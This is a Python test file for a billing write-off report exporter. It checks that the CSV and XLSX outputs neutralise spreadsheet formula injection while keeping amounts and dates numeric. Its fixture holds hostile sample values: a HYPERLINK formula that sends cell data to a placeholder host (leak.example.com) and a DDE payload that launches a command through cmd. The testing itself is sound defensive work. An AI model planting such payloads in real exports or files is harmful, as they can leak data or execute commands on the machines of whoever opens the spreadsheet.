"""The write-off report as billing and managers open it: numbers and dates they can sum and
filter, and no formula smuggled in by imported carrier names or an officer's note."""

from __future__ import annotations

import csv
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.support.cli import CliRunner
from tests.support.workbook import plain_header

Writer = Callable[..., Path]

HOSTILE = (
    '=HYPERLINK("http://leak.example.com/?d="&A1,"Details")',
    "=1+1",
    "-2+3",
    "+1+1",
    "@SUM(A1:A9)",
    " =1+2",
    "=cmd|' /C calc'!A0",
)
#: the importer trims the cells it reads
STORED = {h.strip() for h in HOSTILE}
#: what a spreadsheet would read as a formula: first character after spaces
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _csv_field(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture
def hostile_report(cli: CliRunner, write_csv: Writer, tmp_path: Path) -> dict[str, Path]:
    """Seven write-offs whose carriers are formulas, with a formula as the officer's note,
    two currencies; the report in CSV and XLSX."""
    assert cli("init", "--operator", "Night Duty").code == 0
    lines = ["Quarantine ID,Carrier Name,Quarantine Reason,Call Date,Amount,Currency,Status"]
    for n, carrier in enumerate(HOSTILE, start=1):
        currency = "PLN" if n % 2 else "EUR"
        lines.append(
            f"H{n},{_csv_field(carrier)},Obsolete Usage Fault,2026-10-{n:02d} 08:15,"
            f"{n * 1000 + 19.79},{currency},Quarantine"
        )
    cli("backlog", "import", "--kind", "bms-data", str(write_csv(lines, name="hostile.csv")))
    done = cli(
        "backlog", "set-status", "--reason", "Obsolete Usage Fault", "--to", "write-off",
        "--note", '=HYPERLINK("http://leak.example.com/?n="&B2,"see")',
    )  # fmt: skip
    assert done.code == 0, done.err
    out = {}
    for fmt in ("csv", "xlsx"):
        out[fmt] = tmp_path / f"writeoffs.{fmt}"
        result = cli("backlog", "report", "write-offs", "--format", fmt, "--out", str(out[fmt]))
        assert result.code == 0, result.err
    return out


def test_xlsx_holds_numbers_dates_and_never_a_formula(hostile_report: dict[str, Path]) -> None:
    path = hostile_report["xlsx"]
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
    book = load_workbook(path)
    assert not [c for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]

    records = list(book["Written-off records"].iter_rows(values_only=True))
    header = [plain_header(h) for h in records[0]]
    rows = [dict(zip(header, r, strict=True)) for r in records[1:]]
    assert {r["Carrier Name"] for r in rows} == STORED  # text cells, as imported
    for r in rows:
        assert isinstance(r["Amount"], (int, float)), r
        assert r["Currency"] in ("PLN", "EUR")
        assert isinstance(r["Call Date"], datetime) and r["Call Date"].hour == 8
        assert isinstance(r["Written off at"], datetime)
        assert str(r["Note"]).startswith("=HYPERLINK")
    assert rows[0]["Amount"] == pytest.approx(1019.79)

    summary = list(book["Summary"].iter_rows(values_only=True))
    facts = {r[0]: r[1] for r in summary if r and r[0]}
    assert facts["Records written off"] == 7
    pln = sum(Decimal(str(r["Amount"])) for r in rows if r["Currency"] == "PLN")
    assert Decimal(str(facts["Amount written off (PLN)"])) == pln
    # the per-currency total rows are numbers that match the records
    totals = [r for r in summary if r[0] == "Total"]
    assert totals and all(isinstance(r[1], int) and isinstance(r[2], float) for r in totals)
    assert {(r[3], Decimal(str(r[2]))) for r in totals[:2]} == {
        ("PLN", pln),
        ("EUR", sum(Decimal(str(r["Amount"])) for r in rows if r["Currency"] == "EUR")),
    }
    months = [r[0] for r in summary if isinstance(r[0], datetime)]
    assert months == [datetime(2026, 10, 1)] * 2  # one row per currency, a real date


def test_csv_neutralises_every_formula_and_keeps_numbers(hostile_report: dict[str, Path]) -> None:
    text = hostile_report["csv"].read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
    risky = [c for c in cells if c.lstrip(" ")[:1] in FORMULA_START and c.lstrip(" ")]
    unsafe = [c for c in risky if not _plain_number(c)]
    assert unsafe == []  # every formula-looking cell starts with ' instead
    for bad in STORED:
        assert "'" + bad in cells
    assert "'-2+3" in cells
    assert "1019.79" in cells and "PLN" in cells  # amounts stay numbers beside the currency


def _plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_libreoffice_reads_numbers_that_sum(
    hostile_report: dict[str, Path], tmp_path: Path
) -> None:
    """LibreOffice Calc, headless, converts every sheet to CSV: the records' amounts sum to the
    per-currency totals and the carrier names come out as the text they were."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (Debian: libreoffice-calc-nogui) is not installed")
    out = tmp_path / "converted"
    # 44 ',', 34 '"', UTF-8, from line 1, …, cell content not "as shown", every sheet (-1)
    options = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
            "--headless",
            "--convert-to",
            options,
            "--outdir",
            str(out),
            str(hostile_report["xlsx"]),
        ],
        capture_output=True,
        check=True,
        timeout=180,
    )
    records_file = next(out.glob("*Written-off records*.csv"))
    records = list(csv.DictReader(records_file.read_text(encoding="utf-8").splitlines()))
    assert len(records) == 7
    sums: dict[str, Decimal] = {}
    for r in records:
        sums[r["Currency"]] = sums.get(r["Currency"], Decimal(0)) + Decimal(r["Amount"])
    assert {r["Carrier Name"] for r in records} == STORED
    summary_file = next(out.glob("*Summary*.csv"))
    summary = list(csv.reader(summary_file.read_text(encoding="utf-8").splitlines()))
    totals = {r[3]: Decimal(r[2]) for r in summary if r and r[0] == "Total"}
    assert totals == sums
